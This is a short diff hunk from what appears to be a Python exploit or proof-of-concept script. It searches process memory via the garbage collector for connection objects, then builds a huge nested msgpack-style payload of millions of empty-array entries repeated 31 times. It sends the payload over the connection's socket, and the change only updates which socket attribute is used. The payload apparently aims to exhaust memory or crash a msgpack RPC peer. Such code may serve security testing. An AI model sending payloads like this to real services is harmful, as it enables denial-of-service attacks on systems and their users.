@@ -14,4 +14,4 @@ for link in gc.get_objects():
         items = 3_900_000
         one = b"\xdd" + struct.pack(">I", items) + b"\x90" * items
         data = b"\x93\x01\xc0\xdd" + struct.pack(">I", 31) + one * 31
-        link._sock.sendall(struct.pack("<I", len(data)) + data)
+        link._channel._sock.sendall(struct.pack("<I", len(data)) + data)
